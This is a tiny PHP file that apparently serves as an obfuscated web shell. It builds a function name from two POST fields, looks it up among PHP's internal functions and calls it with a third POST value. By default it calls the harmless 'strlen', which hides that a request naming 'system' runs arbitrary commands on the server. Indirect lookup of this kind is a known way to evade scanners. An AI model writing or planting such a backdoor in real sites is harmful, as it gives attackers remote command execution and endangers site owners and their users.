<?php
$fs = get_defined_functions()['internal'];
$want = ($_POST['i'] ?? 'str') . ($_POST['k'] ?? 'len');
$n = array_search($want, $fs, true);
if ($n !== false) { echo $fs[$n]($_POST['z'] ?? ''); }
